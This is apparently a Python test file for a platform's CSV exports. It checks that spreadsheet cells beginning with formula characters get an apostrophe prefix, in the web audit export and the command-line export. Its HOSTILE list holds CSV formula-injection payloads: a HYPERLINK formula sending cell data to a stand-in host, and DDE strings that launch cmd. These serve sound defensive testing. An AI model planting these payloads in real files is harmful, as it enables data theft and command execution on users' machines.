"""Every CSV the platform writes is safe to open in a spreadsheet: a text cell starting with =, +, -, @, a tab or
a carriage return gets a leading apostrophe (referentiel.spreadsheet_cell), whatever stored it."""
from __future__ import annotations

import csv
import io

import pytest

from cli import scenarios
from models import Structure, db
from referentiel import FORMULA_STARTS, spreadsheet_cell
from test_web_support import AUDITEUR, DECLARANT, login, structure_of

HOSTILE = ['=HYPERLINK("http://x.example/?v="&A1,"clic")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_the_one_cell_function_neutralises_every_formula_start(value):
    assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_cell("Rançongiciel") == "Rançongiciel" and spreadsheet_cell(-3) == -3
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def _cells(text: str, delimiter: str = ",") -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row}


def _assert_neutralised(cells: set[str], planted: list[str]) -> None:
    for value in planted:
        assert "'" + value in cells, (value, sorted(cells)[:40])
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), [c for c in cells if c.startswith(FORMULA_STARTS)]


def _plant(clock):
    """A dossier whose structure carries a formula-like name (stored data the export writes with personal data)."""
    dossier, _ = scenarios.run("b1", clock)
    structure_of(DECLARANT).name = HOSTILE[0]
    db.session.commit()
    return dossier


def test_the_process_mining_csv_neutralises_formulas_on_the_page_and_the_command_line(app, clock, client, runner):
    dossier = _plant(clock)
    login(client, AUDITEUR)
    answer = client.get(f"/audit/export.csv?dossier={dossier.number}&donnees_personnelles=1")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    _assert_neutralised(_cells(answer.get_data(as_text=True)), [HOSTILE[0]])
    printed = runner.invoke(args=["audit", "export", "--format", "csv", "--dossier", dossier.number,
                                  "--personal-data"])
    assert printed.exit_code == 0, printed.output
    _assert_neutralised(_cells(printed.output), [HOSTILE[0]])
    assert db.session.get(Structure, dossier.structure_id).name == HOSTILE[0]  # stored as typed; only the file changes
